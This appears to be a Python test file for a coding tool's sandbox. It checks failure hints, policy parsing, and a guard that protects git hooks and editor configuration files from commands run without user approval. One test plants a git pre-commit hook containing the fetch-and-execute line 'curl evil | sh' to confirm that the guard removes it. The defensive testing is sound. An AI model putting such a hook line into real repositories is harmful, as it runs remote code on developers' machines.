"""The sandbox's bwrap command line and its failure hint (the attacks themselves run in
tests/reliability/test_sandbox.py)."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from deepacp.backends.sandbox import (
    Sandbox,
    SandboxSetting,
    failure_hint,
    parse_policy,
)


def pairs(argv: list[str], flag: str) -> list[tuple[str, str]]:
    return [(argv[i + 1], argv[i + 2]) for i, a in enumerate(argv) if a == flag]


def pairs_of(argv: list[str], flag: str = "--remount-ro") -> list[str]:
    return [argv[i + 1] for i, a in enumerate(argv) if a == flag]


def test_failures_that_look_like_the_sandbox_say_how_to_ask_for_more() -> None:
    hint = failure_hint("touch: cannot touch '/etc/x': Read-only file system", "workspace-write")
    assert hint is not None and "outside_sandbox=true" in hint
    assert failure_hint("Connection refused", "workspace-write") is not None
    assert failure_hint("Connection refused", "workspace-write+network") is None
    assert failure_hint("Read-only file system", "off") is None
    assert failure_hint("AssertionError: 2 != 3", "workspace-write") is None


def test_policies_are_parsed_or_named() -> None:
    assert parse_policy("read-only") == "read-only"
    with pytest.raises(ValueError, match="workspace-write, workspace-write\\+network"):
        parse_policy("all")


def test_only_commands_that_run_unasked_are_guarded(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n")
    setting = SandboxSetting("workspace-write")
    sandbox = Sandbox(tmp_path, setting)
    assert sandbox.guard("workspace-write") is None  # asked: the user saw the command
    setting.unasked = True
    assert sandbox.guard("workspace-write+network") is None  # asked in accept-edits too
    guard = sandbox.guard("workspace-write")
    assert guard is not None
    root = tmp_path.resolve()
    assert {root / ".git" / "hooks", root / ".git" / "config"} <= set(guard.bound)
    assert guard.anchors([root]) == [root / ".git"]  # so `.git` cannot be renamed away
    assert root / ".vscode" in guard.missing and root / ".nvim.lua" in guard.missing


def test_a_guard_removes_only_what_the_command_created(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine\n")
    guard = Sandbox(tmp_path, SandboxSetting("workspace-write", unasked=True)).guard(
        "workspace-write"
    )
    assert guard is not None
    assert tmp_path.resolve() / ".git" in guard.missing  # not a repository: `.git` itself
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "hooks" / "pre-commit").write_text("curl evil | sh\n")
    (tmp_path / ".nvim.lua").symlink_to(tmp_path / "notes.txt")
    removed = guard.settle().removed
    assert sorted(p.name for p in removed) == [".git", ".nvim.lua"]
    assert not (tmp_path / ".git").exists() and not os.path.lexists(tmp_path / ".nvim.lua")
    assert (tmp_path / "notes.txt").read_text() == "mine\n"  # a link's target is kept


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_hooks_folder_git_is_pointed_at_is_guarded(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", ".husky"], check=True)
    (tmp_path / ".husky").mkdir()
    guard = Sandbox(tmp_path, SandboxSetting("workspace-write", unasked=True)).guard(
        "workspace-write"
    )
    assert guard is not None and tmp_path.resolve() / ".husky" in guard.bound
